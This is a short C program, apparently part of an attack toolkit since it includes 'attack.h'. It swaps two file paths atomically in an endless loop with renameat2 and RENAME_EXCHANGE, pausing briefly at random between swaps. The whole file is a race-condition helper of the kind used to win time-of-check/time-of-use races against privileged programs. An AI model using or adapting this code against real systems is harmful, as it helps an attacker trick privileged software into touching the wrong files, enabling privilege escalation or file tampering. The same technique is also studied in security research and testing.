/* Exchanges two names again and again: "exchange A B", until it is killed. */
#include "attack.h"

int main(int argc, char **argv) {
  for (;;) {
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */) < 0)
      return 1;
    usleep(random() % 2000);
  }
}
